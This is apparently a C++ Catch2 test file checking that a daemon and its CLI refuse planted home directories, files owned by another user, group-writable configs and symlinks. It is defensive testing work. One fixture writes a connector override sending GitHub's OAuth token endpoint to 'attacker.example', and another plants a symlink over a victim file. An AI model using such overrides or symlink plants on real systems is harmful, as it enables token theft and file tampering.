// Planted files (issue 10, item 2): the real daemon and CLI refuse to use a home they cannot tell,
// directories and files another user owns or can write, and symbolic links planted at the names of
// their files; the refusal names the path and the command that fixes it, and changes nothing.
#include "cli_helpers.hpp"
#include "process.hpp"
#include "skip.hpp"

#include <catch2/catch.hpp>

#include <sys/stat.h>
#include <unistd.h>

#include <fstream>

namespace {

namespace fs = std::filesystem;
using alumia::test::EnvOverrides;
using alumia::test::ProcessResult;
using alumia::test::TempDir;

constexpr uid_t k_nobody = 65534;  // Debian's nobody: home /nonexistent

// Nothing from the developer's shell that would tell the daemon where to live.
EnvOverrides bare_env() {
  return {{"ALUMIA_HOME", std::nullopt},
          {"HOME", std::nullopt},
          {"XDG_DATA_HOME", std::nullopt},
          {"XDG_CONFIG_HOME", std::nullopt},
          {"XDG_RUNTIME_DIR", std::nullopt},
          {"ALUMIA_API_KEY", std::nullopt},
          {"ALUMIA_LISTEN", std::nullopt},
          {"ALUMIA_DAEMON", std::nullopt},
          {"ALUMIA_GITHUB_CLIENT_ID", std::nullopt}};
}

// Starts the daemon on `home` and expects it to exit (it must not start); bounded.
ProcessResult start_expecting_exit(const fs::path& home) {
  EnvOverrides env = bare_env();
  env["ALUMIA_HOME"] = home.string();
  return alumia::test::run({ALUMIA_DAEMON_BIN, "--listen", "127.0.0.1:0", "--keyring", "file"}, env, "",
                           std::chrono::seconds(30));
}

void write(const fs::path& p, const std::string& text) {
  std::ofstream f(p, std::ios::binary | std::ios::trunc);
  f << text;
}

bool skip_unless_root(const char* what) {
  if (::geteuid() == 0) return false;
  ++alumia::test::skipped_count();
  WARN("skipped: " << what << " needs root (another uid must own a file); CI runs as root");
  SUCCEED();
  return true;
}

}  // namespace

TEST_CASE("planted files: no HOME and no ALUMIA_HOME is an error, never /tmp", "[planted]") {
  // Run as nobody, whose passwd entry names /nonexistent: HOME unset, no passwd home, no XDG.
  if (skip_unless_root("running the daemon as nobody (no passwd home)")) return;
  const std::string setpriv = "/usr/bin/setpriv";  // util-linux
  if (!fs::exists(setpriv)) ALUMIA_SKIP(setpriv << " is missing");
  std::vector<std::string> as_nobody{setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"};
  SECTION("the daemon") {
    auto argv = as_nobody;
    argv.insert(argv.end(), {ALUMIA_DAEMON_BIN, "--listen", "127.0.0.1:0", "--keyring", "file"});
    auto r = alumia::test::run(argv, bare_env(), "", std::chrono::seconds(30));
    INFO(r.err);
    CHECK(r.exit_code == 1);
    CHECK(r.err.find("ALUMIA_HOME") != std::string::npos);
    CHECK(r.err.find("--data-dir") != std::string::npos);
    CHECK(r.err.find("/tmp") == std::string::npos);
  }
  SECTION("the CLI looks for its key file nowhere") {
    auto argv = as_nobody;
    argv.insert(argv.end(), {ALUMIA_CLI_BIN, "config", "show"});
    auto r = alumia::test::run(argv, bare_env(), "", std::chrono::seconds(30));
    INFO(r.out << r.err);
    CHECK(r.exit_code == 1);
    CHECK(r.err.find("ALUMIA_HOME") != std::string::npos);
    CHECK(r.out.find("/tmp") == std::string::npos);
  }
  CHECK_FALSE(fs::exists("/tmp/.local/share/alumia-connect"));
  CHECK_FALSE(fs::exists("/tmp/.config/alumia-connect"));
}

TEST_CASE("planted files: XDG_DATA_HOME and XDG_CONFIG_HOME need no HOME", "[planted]") {
  TempDir dir;
  EnvOverrides env = alumia::test::cli_env();
  for (auto& [k, v] : bare_env()) env[k] = v;
  env["XDG_DATA_HOME"] = (dir.path() / "data").string();
  env["XDG_CONFIG_HOME"] = (dir.path() / "config").string();
  auto r = alumia::test::run({ALUMIA_CLI_BIN, "--json", "config", "show"}, env, "", std::chrono::seconds(30));
  INFO(r.out << r.err);
  REQUIRE(r.exit_code == 0);
  const auto j = nlohmann::json::parse(r.out);
  CHECK(j["paths"]["keyFile"] == (dir.path() / "config" / "alumia-connect" / "key").string());
  CHECK(j["paths"]["store"] == (dir.path() / "data" / "alumia-connect" / "store.db").string());
}

TEST_CASE("planted files: a data dir owned by another user with a connectors.d override", "[planted]") {
  if (skip_unless_root("giving the data dir to nobody")) return;
  TempDir dir;
  const fs::path home = dir.path() / "planted home";
  fs::create_directories(home / "connectors.d");
  // The audit's override: GitHub's token endpoint at the other user's server.
  write(home / "connectors.d" / "github.json",
        R"({"slug":"github","oauth":{"tokenUrl":"https://attacker.example/token"}})");
  for (const auto& p : {home, home / "connectors.d", home / "connectors.d" / "github.json"})
    REQUIRE(::chown(p.c_str(), k_nobody, k_nobody) == 0);

  auto r = start_expecting_exit(home);
  INFO(r.err);
  CHECK(r.exit_code == 1);
  CHECK(r.err.find(home.string()) != std::string::npos);
  CHECK(r.err.find("owned by uid 65534") != std::string::npos);
  CHECK(r.err.find("chown -R root '" + home.string() + "'") != std::string::npos);
  // Nothing of ours was put there.
  CHECK_FALSE(fs::exists(home / "store.db"));
  CHECK_FALSE(fs::exists(home / "key"));
  CHECK_FALSE(fs::exists(home / "daemon.json"));

  SECTION("our own directory with the other user's override file in it") {
    REQUIRE(::chown(home.c_str(), 0, 0) == 0);
    REQUIRE(::chown((home / "connectors.d").c_str(), 0, 0) == 0);
    REQUIRE(::chmod(home.c_str(), 0700) == 0);
    auto r2 = start_expecting_exit(home);
    INFO(r2.err);
    CHECK(r2.exit_code == 1);
    CHECK(r2.err.find((home / "connectors.d" / "github.json").string()) != std::string::npos);
    CHECK(r2.err.find("chown root '" + (home / "connectors.d" / "github.json").string() + "'") != std::string::npos);
    CHECK_FALSE(fs::exists(home / "daemon.json"));
  }
}

TEST_CASE("planted files: a group-writable data dir or config.json is refused with the chmod", "[planted]") {
  TempDir dir;
  const fs::path home = dir.path() / "home";
  fs::create_directories(home);
  SECTION("data dir 0777") {
    REQUIRE(::chmod(home.c_str(), 0777) == 0);
    auto r = start_expecting_exit(home);
    INFO(r.err);
    CHECK(r.exit_code == 1);
    CHECK(r.err.find("chmod 700 '" + home.string() + "'") != std::string::npos);
  }
  SECTION("config.json 0664") {
    REQUIRE(::chmod(home.c_str(), 0700) == 0);
    write(home / "config.json", R"({"relayTo":"http://127.0.0.1:9/"})");
    REQUIRE(::chmod((home / "config.json").c_str(), 0664) == 0);
    auto r = start_expecting_exit(home);
    INFO(r.err);
    CHECK(r.exit_code == 1);
    CHECK(r.err.find("chmod go-w '" + (home / "config.json").string() + "'") != std::string::npos);
  }
  CHECK_FALSE(fs::exists(home / "daemon.json"));
  CHECK_FALSE(fs::exists(home / "store.db"));
}

TEST_CASE("planted files: a symlink at store.db-intake is refused and its target untouched", "[planted]") {
  TempDir dir;
  const fs::path home = dir.path() / "home";
  fs::create_directories(home);
  REQUIRE(::chmod(home.c_str(), 0700) == 0);
  const fs::path victim = dir.path() / "victim.txt";
  const std::string precious = "precious bytes\nthat must survive\n";
  write(victim, precious);
  fs::create_symlink(victim, home / "store.db-intake");

  auto r = start_expecting_exit(home);
  INFO(r.err);
  CHECK(r.exit_code == 1);
  CHECK(r.err.find((home / "store.db-intake").string()) != std::string::npos);
  CHECK(r.err.find("symbolic link") != std::string::npos);
  CHECK(alumia::test::read_file(victim) == precious);
  CHECK(fs::is_symlink(home / "store.db-intake"));
  CHECK_FALSE(fs::exists(home / "daemon.json"));
}

TEST_CASE("planted files: a daemon in a fresh TempDir still starts, its directories 0700", "[planted]") {
  TempDir dir;
  const fs::path home = dir.path() / "new" / "home";  // two levels the daemon creates
  alumia::test::Daemon d(home, alumia::test::daemon_options());
  struct stat st {};
  REQUIRE(::stat((dir.path() / "new").c_str(), &st) == 0);
  CHECK((st.st_mode & 07777) == 0700);
  REQUIRE(::stat(home.c_str(), &st) == 0);
  CHECK((st.st_mode & 07777) == 0700);
  std::vector<std::string> made{"key", "master.key"};
  if (alumia::test::testing_on_postgres()) CHECK_FALSE(fs::exists(home / "store.db"));  // the store is elsewhere
  else made.insert(made.end(), {"store.db", "store.db-intake"});
  for (const auto& name : made) {
    CAPTURE(name);
    REQUIRE(::stat((home / name).c_str(), &st) == 0);
    CHECK((st.st_mode & 077) == 0);
  }
  alumia::test::stop_clean(d);
}
